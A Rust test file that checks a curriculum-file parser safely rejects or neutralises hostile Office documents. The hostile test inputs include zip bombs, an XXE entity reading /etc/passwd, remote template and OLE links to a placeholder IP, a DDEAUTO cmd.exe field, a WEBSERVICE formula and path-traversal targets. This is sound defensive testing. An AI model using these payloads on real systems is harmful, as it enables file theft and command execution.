//! Hostile Word and Excel files and their kin: each trick in every format that has room for it. A sane result or a typed
//! error, soon, and with little memory.
#![cfg(not(target_arch = "wasm32"))]
#![allow(missing_docs, clippy::expect_used, clippy::indexing_slicing, clippy::unwrap_used)]

#[path = "support/cost.rs"]
mod cost;
mod support;

use cost::cheaply;
use curriculum_mapper::*;
use support::office::{archive, docx_with, xlsx};

const PARAGRAPHS: &str =
    "<w:p><w:r><w:t>Learning outcomes</w:t></w:r></w:p><w:p><w:r><w:t>1. Keep accurate records</w:t></w:r></w:p>";

/// Reads a file, and sees that it costs little.
#[track_caller]
fn soon(name: &str, bytes: &[u8]) -> Result<Reading> {
    cheaply(name, || read(name, bytes))
}

#[track_caller]
fn kind(name: &str, bytes: &[u8]) -> ErrorKind {
    soon(name, bytes).expect_err(name).kind
}

#[track_caller]
fn texts(name: &str, bytes: &[u8]) -> Vec<String> {
    soon(name, bytes).unwrap().curriculum.outcomes.into_iter().map(|outcome| outcome.text).collect()
}

/// A package whose relationships name this part as the document.
fn package(main: &str, parts: &[(&str, &[u8])]) -> Vec<u8> {
    let rels =
        format!(r#"<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="{main}"/></Relationships>"#);
    archive(&[&[("_rels/.rels", rels.as_bytes())], parts].concat())
}

/// A workbook whose sheets have these parts, as the relationships name them.
fn workbook(targets: &[&str], parts: &[(&str, &[u8])]) -> Vec<u8> {
    let sheets: String = (0..targets.len()).map(|n| format!(r#"<sheet name="S{n}" r:id="s{n}"/>"#)).collect();
    let rels: String = (0..).zip(targets).map(|(n, t)| format!(r#"<Relationship Id="s{n}" Target="{t}"/>"#)).collect();
    let sheets = format!("<workbook><sheets>{sheets}</sheets></workbook>");
    let rels = format!("<Relationships>{rels}</Relationships>");
    let own: [(&str, &[u8]); 2] =
        [("xl/workbook.xml", sheets.as_bytes()), ("xl/_rels/workbook.xml.rels", rels.as_bytes())];
    package("xl/workbook.xml", &[&own, parts].concat())
}

fn sheet(cells: &str) -> String {
    format!("<worksheet><sheetData>{cells}</sheetData></worksheet>")
}

const HEADER: &str = r#"<row><c t="inlineStr"><is><t>Outcome</t></is></c></row>"#;

#[test]
fn bombs_in_any_part_are_refused() {
    let blank = " ".repeat(2 << 20);
    let sheet = sheet(HEADER);
    let in_sheet = workbook(&["a.xml"], &[("xl/a.xml", blank.as_bytes())]);
    let in_texts = workbook(&["a.xml"], &[("xl/a.xml", sheet.as_bytes()), ("xl/sharedStrings.xml", blank.as_bytes())]);
    let in_styles = docx_with(PARAGRAPHS, &[("word/numbering.xml", blank.as_bytes())]);
    for bomb in [in_sheet, in_texts, in_styles] {
        assert_eq!(kind("bomb", &bomb), ErrorKind::LimitExceeded);
    }
}

#[test]
fn a_part_that_is_not_named_as_xml_is_never_unpacked() {
    let large = vec![b' '; 64 << 20];
    let document = package("word/picture.bmp", &[("word/picture.bmp", &large)]);
    assert_eq!(kind("document.docx", &document), ErrorKind::Malformed);
    assert_eq!(kind("workbook.xlsx", &workbook(&["a.bin"], &[("xl/a.bin", &large)])), ErrorKind::NoOutcomes);
}

#[test]
fn many_sheets_are_held_against_each_other_once() {
    const SHEETS: usize = 1_000;
    let names: Vec<String> = (0..SHEETS).map(|sheet| format!("S{sheet}")).collect();
    let row = |sheet, row| format!("S{sheet}-{row} | Keep the records of ward {row} of hospital {sheet}");
    let rows: Vec<String> = (0..SHEETS)
        .map(|sheet| (0..125).map(|n| row(sheet, n)).collect::<Vec<_>>().join("\n"))
        .map(|rows| format!("Ref | Statement | Others\n{rows}"))
        .collect();
    let sheets: Vec<(&str, &str, &[&str])> =
        names.iter().zip(&rows).map(|(name, rows)| (name.as_str(), rows.as_str(), &[][..])).collect();
    let reading = soon("against.xlsx", &xlsx(&sheets)).unwrap();
    assert_eq!(reading.curriculum.outcomes.len(), SHEETS * 125);
}

#[test]
fn many_names_for_one_sheet_are_one_sheet() {
    let rows =
        sheet(&format!("{HEADER}{}", r#"<row><c t="inlineStr"><is><t>Keep records</t></is></c></row>"#.repeat(2_000)));
    let book = workbook(&vec!["a.xml"; 20_000], &[("xl/a.xml", rows.as_bytes())]);
    let reading = soon("names.xlsx", &book).unwrap();
    assert_eq!((reading.curriculum.outcomes.len(), reading.more_sheets.len()), (2_000, 0));
}

#[test]
fn archives_within_archives_and_archives_of_many_files_are_no_documents() {
    let mut inner = docx_with(PARAGRAPHS, &[]);
    for _ in 0..5 {
        inner = archive(&[("inner.docx", &inner)]);
    }
    assert_eq!(kind("nested.docx", &inner), ErrorKind::UnknownFormat);
    let names: Vec<String> = (0..limits::ARCHIVE_FILES + 1).map(|n| format!("{n}.xml")).collect();
    let parts: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"".as_slice())).collect();
    assert_eq!(kind("many.docx", &archive(&parts)), ErrorKind::LimitExceeded);
}

#[test]
fn nesting_is_limited_in_sheets_and_styles_too() {
    let deep = "<a>".repeat(10_000);
    let book = workbook(&["a.xml"], &[("xl/a.xml", deep.as_bytes())]);
    let styles = docx_with(PARAGRAPHS, &[("word/numbering.xml", deep.as_bytes())]);
    for file in [book, styles] {
        assert_eq!(kind("deep", &file), ErrorKind::LimitExceeded);
    }
}

#[test]
fn entities_of_a_files_own_stand_for_nothing() {
    let own = r#"<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>"#;
    let document = format!(
        "{own}<w:document><w:body>{}</w:body></w:document>",
        PARAGRAPHS.replace("accurate", "&b;accurate&c; &#8216;and&#8217; &lt;safe&gt;")
    );
    let file = package("word/document.xml", &[("word/document.xml", document.as_bytes())]);
    assert_eq!(texts("entities.docx", &file), ["Keep accurate ‘and’ <safe> records"]);
    let cell = r#"<row><c t="inlineStr"><is><t>Keep &b;records&c;</t></is></c></row>"#;
    let rows = format!("{own}{}", sheet(&format!("{HEADER}{cell}")));
    assert_eq!(texts("entities.xlsx", &workbook(&["a.xml"], &[("xl/a.xml", rows.as_bytes())])), ["Keep records"]);
}

#[test]
fn what_lies_outside_a_file_is_neither_fetched_nor_needed() {
    let outside = br#"<Relationships>
        <Relationship Id="t" Type="x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>
        <Relationship Id="i" Type="x/image" Target="file://192.0.2.1/share/i.png" TargetMode="External"/>
        <Relationship Id="o" Type="x/oleObject" Target="http://192.0.2.1/o.xls!A1" TargetMode="External"/></Relationships>"#;
    let field = r#"<w:p><w:r><w:instrText>INCLUDETEXT "http://192.0.2.1/more.docx"</w:instrText></w:r><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"#;
    let body = format!("{PARAGRAPHS}{field}");
    let file =
        docx_with(&body, &[("word/_rels/document.xml.rels", outside), ("word/_rels/settings.xml.rels", outside)]);
    assert_eq!(texts("outside.docx", &file), ["Keep accurate records"]);
    let cells = r#"<row><c t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>Keep records</v></c></row>"#;
    let rows = sheet(&format!("{HEADER}{cells}"));
    let parts: [(&str, &[u8]); 3] = [
        ("xl/a.xml", rows.as_bytes()),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", outside),
        (
            "xl/connections.xml",
            br#"<connections><connection><webPr url="http://192.0.2.1/"/></connection></connections>"#,
        ),
    ];
    assert_eq!(texts("outside.xlsx", &workbook(&["a.xml"], &parts)), ["Keep records"], "a formula is what it came to");
}

#[test]
fn paths_that_climb_lead_nowhere() {
    let secret: [(&str, &[u8]); 1] = [("xl/a.xml", b"<worksheet/>")];
    for target in
        ["../../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "C:/a.xml"]
    {
        assert_eq!(kind("climbs.xlsx", &workbook(&[target], &secret)), ErrorKind::NoOutcomes, "{target}");
        let found = kind("climbs.docx", &package(&format!("word/../{target}"), &[]));
        assert_eq!(found, ErrorKind::Malformed, "{target}");
    }
}

#[test]
fn workbooks_cut_short_or_broken_say_so() {
    let whole = xlsx(&[("S", "Outcome\nKeep accurate records\nShare data safely", &[])]);
    assert_eq!(texts("whole.csv", &whole).len(), 2, "whatever its name says");
    for cut in [5, whole.len() / 3, whole.len() / 2, whole.len() - 1] {
        assert_eq!(kind("cut.xlsx", &whole[..cut]), ErrorKind::Malformed, "{cut}");
    }
    let mut changed = whole.clone();
    let at = whole.windows(4).rposition(|window| window == b"PK\x03\x04").unwrap() + 60;
    changed[at] ^= 0x55;
    let error = soon("changed.xlsx", &changed).map(|_| ()).map_err(|error| error.kind);
    assert!(matches!(error, Ok(()) | Err(ErrorKind::Malformed | ErrorKind::NoOutcomes)), "{error:?}");
    let half = sheet("<row><c><v>1</v>").replace("</sheetData></worksheet>", "");
    assert_eq!(kind("half.xlsx", &workbook(&["a.xml"], &[("xl/a.xml", half.as_bytes())])), ErrorKind::Malformed);
}

#[test]
fn archives_that_a_password_protects_say_so() {
    let mut file = docx_with(PARAGRAPHS, &[]);
    // The first bit of the flags of each entry, in its own header and in the directory, says that it is encrypted.
    for (signature, flags) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let places: Vec<usize> = (0..file.len() - 4).filter(|at| &file[*at..at + 4] == signature).collect();
        places.into_iter().for_each(|at| file[at + flags] |= 1);
    }
    let error = soon("locked.docx", &file).unwrap_err();
    assert_eq!(error.kind, ErrorKind::UnknownFormat);
    assert!(error.to_string().contains("password"), "{error}");
}

#[test]
fn files_with_macros_are_read_without_them() {
    let types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let document = docx_with(PARAGRAPHS, &[("[Content_Types].xml", types), ("word/vbaProject.bin", b"\0macro")]);
    assert_eq!(texts("macros.docm", &document), ["Keep accurate records"]);
    let rows = sheet(&format!(r#"{HEADER}<row><c t="inlineStr"><is><t>Keep records</t></is></c></row>"#));
    let parts: [(&str, &[u8]); 3] =
        [("xl/a.xml", rows.as_bytes()), ("xl/vbaProject.bin", b"\0macro"), ("xl/macrosheets/sheet1.xml", b"<a/>")];
    assert_eq!(texts("macros.xlsm", &workbook(&["a.xml"], &parts)), ["Keep records"]);
}

#[test]
fn nul_bytes_are_told_in_every_format() {
    let document = docx_with(&PARAGRAPHS.replace("accurate", "accu\0rate"), &[]);
    assert_eq!(kind("nul.docx", &document), ErrorKind::UnknownFormat);
    let rows = sheet(&format!("{HEADER}<row><c><v>a\0b</v></c></row>"));
    assert_eq!(kind("nul.xlsx", &workbook(&["a.xml"], &[("xl/a.xml", rows.as_bytes())])), ErrorKind::UnknownFormat);
    for text in ["Outcome\nKeep\0records\n", "{\"outcomes\": [\0]}", "<CurriculumInventory>\0</CurriculumInventory>"] {
        assert_eq!(kind("nul", text.as_bytes()), ErrorKind::UnknownFormat, "{text:?}");
    }
    let escaped = br#"{"outcomes": [{"id": "1", "text": "Keep\u0000 records"}]}"#;
    assert_eq!(texts("escaped.json", escaped), ["Keep\0 records"], "JSON has a sign for it, which is only text");
}

#[test]
fn a_million_rows_and_wide_merges_end_soon() {
    let row = r#"<row><c t="inlineStr"><is><t>Keep</t></is></c></row>"#;
    let rows = sheet(&format!("{HEADER}{}", row.repeat(100_000)));
    let full = workbook(&["a.xml"], &[("xl/a.xml", rows.as_bytes())]);
    assert_eq!(texts("rows.xlsx", &full).len(), 100_000);
    let merges: String = (1..=1_000).map(|n| format!(r#"<mergeCell ref="A1:A{}"/>"#, 1_000_000 - n)).collect();
    let merged = format!("<worksheet><sheetData>{HEADER}</sheetData><mergeCells>{merges}</mergeCells></worksheet>");
    assert_eq!(kind("merged.xlsx", &workbook(&["a.xml"], &[("xl/a.xml", merged.as_bytes())])), ErrorKind::NoOutcomes);
}

#[test]
fn an_area_that_is_merged_from_its_end_is_one_all_the_same() {
    let cell = |text: &str| format!(r#"<c t="inlineStr"><is><t>{text}</t></is></c>"#);
    let row = |cells: [&str; 3]| format!("<row>{}</row>", cells.map(cell).concat());
    let rows = [["Module", "Outcome", "Code"], ["N1", "Keep records", "A1"]].map(row).concat();
    let merges = r#"<mergeCell ref="C1:A1"/><mergeCell ref="B3:A2"/>"#;
    let merged = format!("<worksheet><sheetData>{rows}</sheetData><mergeCells>{merges}</mergeCells></worksheet>");
    assert_eq!(texts("merged.xlsx", &workbook(&["a.xml"], &[("xl/a.xml", merged.as_bytes())])), ["Keep records"]);
}

#[test]
fn any_script_is_read_from_sheets_and_tables() {
    let (arabic, welsh, hebrew) =
        ("حفظ سجلات دقيقة للمرضى", "Cadw cofnodion cywir a'u rhannu'n ddiogel – ŵ ŷ", "לנהל רשומות \u{202e}מדויקות");
    let rows = format!("Outcome\n{arabic}\n{welsh}\n{hebrew}");
    let expected = [arabic, welsh, hebrew];
    assert_eq!(texts("scripts.xlsx", &xlsx(&[("S", &rows, &[])])), expected);
    assert_eq!(texts("scripts.csv", rows.as_bytes()), expected);
    let utf16: Vec<u8> = [0xFEFF].into_iter().chain(rows.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert_eq!(texts("scripts-utf16.csv", &utf16), expected);
    let outcomes: Vec<_> =
        (1..).zip(expected).map(|(n, text)| serde_json::json!({"id": n.to_string(), "text": text})).collect();
    let json = serde_json::json!({"id": "s", "title": "S", "outcomes": outcomes}).to_string();
    assert_eq!(texts("scripts.json", json.as_bytes()), expected);
}
